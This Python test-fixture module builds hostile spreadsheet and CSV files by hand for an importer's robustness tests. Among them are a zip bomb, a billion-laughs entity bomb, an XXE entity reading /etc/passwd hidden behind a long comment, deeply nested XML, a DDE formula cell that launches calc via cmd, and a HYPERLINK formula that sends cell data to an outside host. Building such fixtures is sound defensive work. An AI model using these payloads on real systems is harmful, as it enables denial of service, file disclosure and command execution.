"""Spreadsheets made to hurt an importer: bombs, entity tricks, huge rows and cells, formulas,
encryption, odd encodings and NUL bytes. Written by hand (no openpyxl), so each is exactly
the trick it names."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from pathlib import Path
from xml.sax.saxutils import escape

from orgdesk.io.workbook.xlsx_stream import column_letter

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="部门" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)
SHEET_START = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
SHEET_END = "</sheetData></worksheet>"
SHEET_BODY_START = SHEET_START.split("?>", 1)[1]  # without the XML declaration


def cell(row: int, col: int, text: str) -> str:
    return f'<c r="{column_letter(col)}{row}" t="inlineStr"><is><t>{escape(text)}</t></is></c>'


def rows_xml(rows: list[list[str]]) -> str:
    return "".join(
        f'<row r="{r}">' + "".join(cell(r, c, text) for c, text in enumerate(row)) + "</row>"
        for r, row in enumerate(rows, start=1)
    )


def write_xlsx(path: Path, sheet_xml: str, *, workbook: str = WORKBOOK, deflate: bool = True) -> None:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", workbook)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", sheet_xml)


HEADER = ["部门名称", "上级部门"]
GOOD_ROWS = [HEADER, ["总部", ""], ["市场部", "总部"], ["客服部", "总部"]]


def good_xlsx(path: Path) -> None:
    write_xlsx(path, SHEET_START + rows_xml(GOOD_ROWS) + SHEET_END)


def zip_bomb(path: Path) -> None:
    padding = "<row/>" * ((16 << 20) // 6)  # ~16 MB that deflates about 1000 : 1
    write_xlsx(path, SHEET_START + rows_xml(GOOD_ROWS) + padding + SHEET_END)


def billion_laughs(path: Path) -> None:
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    sheet = f'<?xml version="1.0"?><!DOCTYPE worksheet [{entities}]>' + SHEET_BODY_START
    write_xlsx(path, sheet + rows_xml([HEADER, ["&a9;", ""]]).replace("&amp;a9;", "&a9;") + SHEET_END)


def entity_after_long_comment(path: Path) -> None:
    """The DOCTYPE pushed past the first 4 KB by a comment (a check that only reads the start)."""
    comment = "<!--" + "x" * 6000 + "-->"
    sheet = f'<?xml version="1.0"?>{comment}<!DOCTYPE worksheet [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    body = SHEET_BODY_START + rows_xml([HEADER, ["&e;", ""]]).replace("&amp;e;", "&e;") + SHEET_END
    write_xlsx(path, sheet + body)


def deeply_nested(path: Path) -> None:
    depth = 100_000
    write_xlsx(path, SHEET_START + rows_xml(GOOD_ROWS) + "<x>" * depth + "</x>" * depth + SHEET_END)


def many_columns(path: Path) -> None:
    header = [f"列{n}" for n in range(16_384)]
    header[0], header[1] = HEADER
    write_xlsx(path, SHEET_START + rows_xml([header, ["总部", ""], ["市场部", "总部"]]) + SHEET_END)


def huge_cells(path: Path) -> None:
    long = "部" * 32_767
    write_xlsx(path, SHEET_START + rows_xml([HEADER, ["总部", ""], [long, "总部"], ["市场部", long]]) + SHEET_END)


def formula_cells(path: Path) -> None:
    formulas = (
        '<row r="3"><c r="A3" t="str"><f>HYPERLINK("http://x.example/?"&amp;A2,"点击")</f><v>点击</v></c>'
        '<c r="B3" t="inlineStr"><is><t>总部</t></is></c></row>'
        '<row r="4"><c r="A4" t="inlineStr"><is><t>=cmd|\' /C calc\'!A0</t></is></c>'
        '<c r="B4" t="inlineStr"><is><t>总部</t></is></c></row>'
        '<row r="5"><c r="A5"><f>1+1</f><v>2</v></c><c r="B5" t="inlineStr"><is><t>总部</t></is></c></row>'
    )
    write_xlsx(path, SHEET_START + rows_xml(GOOD_ROWS[:2]) + formulas + SHEET_END)


def encrypted(path: Path) -> None:
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    path.write_bytes(header + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 4000)


def csv_in(encoding: str) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        text = "\r\n".join(",".join(row) for row in GOOD_ROWS) + "\r\n"
        path.write_bytes(text.encode(encoding))

    return write


def nul_bytes(path: Path) -> None:
    path.write_bytes("部门名称,上级部门\n总部,\n市场\x00部,总部\n".encode())


def nul_bytes_late(path: Path) -> None:
    rows = "部门名称,上级部门\n总部,\n" + "".join(f"部门{n},总部\n" for n in range(600)) + "坏\x00部,总部\n"
    path.write_bytes(rows.encode())


def not_a_zip_named_xlsx(path: Path) -> None:
    path.write_bytes(b"PK\x03\x04" + bytes(range(256)) * 4)


HOSTILE: dict[str, tuple[str, Callable[[Path], None]]] = {
    "zip bomb": (".xlsx", zip_bomb),
    "XML entities (billion laughs)": (".xlsx", billion_laughs),
    "external entity after a 6 KB comment": (".xlsx", entity_after_long_comment),
    "deeply nested XML (100,000 levels)": (".xlsx", deeply_nested),
    "16,384 columns": (".xlsx", many_columns),
    "32,767-character cells": (".xlsx", huge_cells),
    "formula cells": (".xlsx", formula_cells),
    "encrypted workbook": (".xlsx", encrypted),
    "GBK CSV": (".csv", csv_in("gbk")),
    "UTF-16 CSV": (".csv", csv_in("utf-16")),
    "UTF-8 CSV with BOM": (".csv", csv_in("utf-8-sig")),
    "NUL bytes in a CSV": (".csv", nul_bytes),
    "NUL byte after 4 KB": (".csv", nul_bytes_late),
    "a broken zip named .xlsx": (".xlsx", not_a_zip_named_xlsx),
}
